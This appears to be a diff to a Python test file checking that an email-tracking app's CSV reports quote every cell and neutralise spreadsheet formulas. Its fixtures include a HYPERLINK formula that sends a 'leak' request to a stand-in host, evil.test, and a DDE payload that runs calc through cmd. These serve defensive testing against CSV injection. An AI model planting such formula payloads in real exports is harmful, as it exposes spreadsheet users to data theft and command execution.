@@ -361,30 +361,32 @@ def test_the_emails_csv_is_rfc_4180_utf8_with_formulas_neutralised(staff, data):
     assert response.content_type == "text/csv" and response.charset == "utf-8"
     assert response.headers["Content-Disposition"].startswith('attachment; filename="coretrack-emails-')
     assert response.body == (
-        "\ufeffSubject,Sender,Sent at,Recipients,Delivered,Opened,Open rate (%),Accesses,Last access\r\n"
-        "Spring launch,sam,2026-03-02 09:00:00,4,3,2,66.7,4,2026-03-04 08:00:00\r\n"
-        '"\'=HYPERLINK(""http://evil.test/?leak"",""Click"")",admin,2026-03-03 15:00:00,2,2,2,100.0,3,'
-        "2026-03-05 10:00:00\r\n"
-        "Spring follow-up,tess,2026-03-05 08:00:00,2,1,1,100.0,1,2026-03-05 09:30:00\r\n"
+        '\ufeff"Subject","Sender","Sent at","Recipients","Delivered","Opened","Open rate (%)","Accesses",'
+        '"Last access"\r\n'
+        '"Spring launch","sam","2026-03-02 09:00:00","4","3","2","66.7","4","2026-03-04 08:00:00"\r\n'
+        '"\'=HYPERLINK(""http://evil.test/?leak"",""Click"")","admin","2026-03-03 15:00:00","2","2","2","100.0","3",'
+        '"2026-03-05 10:00:00"\r\n'
+        '"Spring follow-up","tess","2026-03-05 08:00:00","2","1","1","100.0","1","2026-03-05 09:30:00"\r\n'
     ).encode("utf-8")
 
 
 def test_the_csv_export_takes_the_same_filters_as_the_page(staff, data):
     body = staff.get("/reports/records.csv", params={"record_type": "account"}).body
-    assert body.decode("utf-8") == (
-        "\ufeffRecord,Emails sent,Opened,Accesses,Last access\r\n"
-        "Acme <Corp>,2,2,5,2026-03-05 09:30:00\r\n"
-        "Globex,1,1,2,2026-03-05 09:00:00\r\n"
-    )
+    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [
+        ["Record", "Emails sent", "Opened", "Accesses", "Last access"],
+        ["Acme <Corp>", "2", "2", "5", "2026-03-05 09:30:00"],
+        ["Globex", "1", "1", "2", "2026-03-05 09:00:00"],
+    ]
     recipients = list(csv.reader(io.StringIO(
         staff.get("/reports/recipients.csv", params={"status": "failed"}).body.decode("utf-8-sig"))))
     assert recipients == [
         ["Email", "Address", "Record type", "Related record", "Status", "Accesses", "First access", "Last access"],
         ["Spring launch", "x@nowhere.test", "", "", "failed", "0", "", ""],
     ]
-    activity = staff.get("/reports/activity.csv", params={**WEEK, "sender": "admin"}).body.decode("utf-8")
-    assert activity.splitlines()[:4] == ["\ufeffTime (UTC),Accesses,Unique opens", "2026-03-01,0,0",
-                                         "2026-03-02,0,0", "2026-03-03,1,1"]
+    activity = staff.get("/reports/activity.csv", params={**WEEK, "sender": "admin"}).body.decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(activity)))[:4] == [
+        ["Time (UTC)", "Accesses", "Unique opens"], ["2026-03-01", "0", "0"], ["2026-03-02", "0", "0"],
+        ["2026-03-03", "1", "1"]]
 
 
 def test_the_csv_link_on_a_page_carries_its_filters(staff, data):
@@ -395,9 +397,39 @@ def test_the_csv_link_on_a_page_carries_its_filters(staff, data):
 @pytest.mark.parametrize("value, cell", [
     ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("a=b", "a=b"), ("", ""), (None, ""), (7, 7), (66.7, 66.7), (at(5, 9, 30), "2026-03-05 09:30:00"),
+    # A spreadsheet may split a cell on any of , ; tab | or a line break, and trim spaces: each part is a cell.
+    ("Q3;=1+1", "Q3;'=1+1"), ("a,+1", "a,'+1"), ("a\t-1", "a\t'-1"), ("x|@SUM(A1)", "x|'@SUM(A1)"),
+    ("a\n=1", "a\n'=1"), ("a\r\n=1", "a\r\n'=1"), ("  =1", "  '=1"), ("a;  =1", "a;  '=1"),
+    ("Smith - Jones", "Smith - Jones"), ("Q3 = good", "Q3 = good"), ("ann@example.test", "ann@example.test"),
 ])
 def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote(value, cell):
     assert reports.csv_cell(value) == cell
+
+
+FORMULA_STARTS = ("=", "+", "-", "@")
+
+
+def test_every_csv_cell_is_quoted_and_no_part_a_spreadsheet_might_split_off_starts_a_formula(staff, data, db):
+    ada = data.records["ada"]
+    ada.last_name = "Lovelace;=1+1"
+    add_email(db, data.recipients["e1:ada"].email.sender, "Q3;=cmd|' /C calc'!A0", at(6, 9), [
+        ("ada@acme.test", ada, "sent", [at(6, 10)]),
+        ("bob@example.test", None, "failed", []),
+    ])
+    db.commit()
+    for report in ("emails", "recipients", "records"):
+        text = staff.get(f"/reports/{report}.csv", params={"sort": "last_access", "order": "desc"}).body \
+            .decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text)))
+        assert any("=1+1" in cell or "=cmd" in cell for cell in rows[1]), (report, rows[1])
+        for line in text.split("\r\n")[:-1]:
+            # Quoted: a spreadsheet that honours quotes keeps every cell whole, whatever its separator.
+            assert line.startswith('"') and line.endswith('"'), line
+            assert len(list(csv.reader([line], quoting=csv.QUOTE_ALL))[0]) == len(rows[0])
+        # One that does not honour quotes, splitting on any of these, still finds no formula.
+        for separator in (",", ";", "\t", "|", "\n"):
+            for part in text.split(separator):
+                assert not part.strip(' "\r\n').startswith(FORMULA_STARTS), (report, separator, part)
 
 
 def test_a_long_csv_is_streamed_in_chunks_with_every_row(app, data, db):
